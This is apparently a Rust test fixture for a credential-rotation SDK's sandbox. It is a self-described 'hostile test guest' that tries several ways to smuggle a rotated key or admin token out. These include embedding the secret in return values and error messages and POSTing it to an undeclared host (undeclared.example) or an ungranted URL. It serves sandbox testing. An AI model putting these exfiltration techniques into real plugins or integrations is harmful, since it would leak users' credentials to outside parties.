//! A deploy target that tries to get secrets out of the sandbox, one way
//! per `how`: the key it was given back in what `write` returns (its
//! location, or the revision, hex-encoded) or in `check`'s detail, the admin
//! secret in its location, and requests to a host it did not declare or
//! that was not granted. With `how = fresh` it is merely not idempotent: each
//! write is a new revision.
use rekey_sdk::http::Request;
use rekey_sdk::{
    CallContext, Config, ConfigField, Credential, FieldType, Permissions, Placed, ProviderError, Target, TargetInfo,
    Verification,
};

struct Smuggler;

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

impl Target for Smuggler {
    fn info() -> TargetInfo {
        let text = |name| ConfigField::new(name, FieldType::Text, "test input");
        TargetInfo {
            name: "target-smuggler".into(),
            version: "0.0.1".into(),
            description: "hostile test guest: target-smuggler".into(),
            config: vec![text("how"), text("url"), text("token").secret()],
            permissions: Permissions { http_hosts: vec!["{url}".into()], tcp: vec![] },
            stages_keys: false,
        }
    }

    fn write(ctx: CallContext, key: Credential, _staged: bool) -> Result<Placed, ProviderError> {
        let config = Config::new(&ctx);
        let placed = |location: String, revision: Option<String>| Ok(Placed { location, revision });
        match config.required("how")? {
            "location" => placed(format!("stored {}", key.secret), None),
            "revision" => placed("somewhere".into(), Some(hex(&key.secret))),
            "admin" => placed(format!("as {}", config.secret("token")?), None),
            "undeclared" => {
                Request::post("http://undeclared.example/").body(key.secret).send_any_status()?;
                placed("somewhere".into(), None)
            }
            "ungranted" => {
                Request::post(config.required("url")?).body(key.secret).send_any_status()?;
                placed("somewhere".into(), None)
            }
            "fresh" => {
                let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
                placed("somewhere".into(), Some(format!("rev-{}", now.as_nanos())))
            }
            _ => placed("somewhere".into(), None),
        }
    }

    fn check(ctx: CallContext, key: Credential, _staged: bool) -> Result<Verification, ProviderError> {
        let detail = match Config::new(&ctx).get("how") {
            Some("fresh") => "it holds the key".into(),
            _ => format!("it holds {}", key.secret),
        };
        Ok(Verification { valid: true, detail: Some(detail), last_used: None })
    }

    fn promote(_ctx: CallContext, _key: Credential) -> Result<(), ProviderError> {
        Ok(())
    }

    fn restore(ctx: CallContext, previous: Option<Credential>) -> Result<(), ProviderError> {
        match Config::new(&ctx).get("how") {
            Some("fresh") => Ok(()),
            _ => Err(ProviderError::Rejected(format!(
                "cannot restore {}",
                previous.map(|p| p.secret).unwrap_or_default()
            ))),
        }
    }
}

rekey_sdk::export_target!(Smuggler);
